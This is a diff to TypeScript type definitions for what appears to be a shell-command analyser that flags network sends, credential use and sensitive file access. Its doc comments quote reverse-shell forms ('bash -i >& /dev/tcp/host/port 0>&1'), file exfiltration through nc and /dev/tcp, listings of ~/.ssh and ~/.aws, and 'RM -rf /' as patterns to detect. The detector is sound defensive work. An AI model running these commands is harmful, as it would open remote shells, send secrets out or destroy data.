@@ -313,6 +313,11 @@ export interface AnalyzeOptions {
   readonly budgetMs?: number;
   /** The repository root, the output of `git rev-parse --show-toplevel` (`undefined`: unknown). */
   readonly repoRoot?: string;
+  /**
+   * The file system ignores case (macOS, Windows: the policy's `case_insensitive_paths`): a program
+   * named in other cases is that program (`RM -rf /`, `Sudo rm`), recorded under its lowercased name.
+   */
+  readonly caseInsensitive?: boolean;
   /** Maximum number of AST nodes visited (default 20 000). */
   readonly maxNodes?: number;
   /**
@@ -361,6 +366,25 @@ export interface NetworkSend {
    */
   readonly stdinFrom: readonly number[];
   /**
+   * Run-time variables in the request's credentials: header and authentication options (`-H
+   * "Authorization: Bearer $GITHUB_TOKEN"`, `-u "ci:$TOKEN"`, `--oauth2-bearer`, httpie
+   * `Header:value` items and `-a`). A token there authenticates the request: it goes to the peer.
+   */
+  readonly credentials?: readonly string[];
+  /**
+   * Local files whose content goes to the peer: `curl -T f`, `-F x=@f`, `-d @f`, `wget
+   * --post-file f`, httpie `field@f` and `@f`, `scp f host:`, `rsync f host:`, `nc host port < f`,
+   * `cat f | nc host port`, `cat f > /dev/tcp/host/port`. Absent when none is.
+   */
+  readonly files?: readonly ShellWord[];
+  /** The request method when the command names it (`curl -X DELETE`, `http DELETE URL`), uppercased. */
+  readonly method?: string;
+  /**
+   * A shell on this machine is tied to the socket: its input or output is the peer (`bash -i >&
+   * /dev/tcp/host/port 0>&1`, `bash < /dev/tcp/host/port`), so the peer runs commands here.
+   */
+  readonly shell?: boolean;
+  /**
    * True for a command whose output is shown in the transcript rather than sent to a network peer
    * (`echo $TOKEN`, `gh auth token`, `printenv | grep -i token`): the model reads it. `env` then
    * holds the run-time variables it prints, `environment` says it prints the environment picked
@@ -375,9 +399,12 @@ export interface FileEffect {
   readonly command: number;
   /**
    * `use`: the program consumes the file without showing its content (a key or certificate for a
-   * TLS connection or a signature: `curl --key`, `openssl req -key`, `scp -i`, `ssh-add`).
+   * TLS connection or a signature: `curl --key`, `openssl req -key`, `scp -i`, `ssh-add`);
+   * `list`: it shows the names in a directory, not their content (`ls ~/.ssh`, `find ~/.aws`,
+   * `tree`); `share`: it hands the content to a program whose behaviour is not known, which may
+   * show or send it (`docker run --env-file .env someone/tool`).
    */
-  readonly access: "read" | "write" | "delete" | "chmod" | "chown" | "exec" | "use";
+  readonly access: "read" | "write" | "delete" | "chmod" | "chown" | "exec" | "use" | "list" | "share";
   /** The path operand (may be dynamic or a glob). */
   readonly path: ShellWord;
   /** True for recursive operations (`rm -r`, `chmod -R`, `find -delete`, `cp -r` targets). */
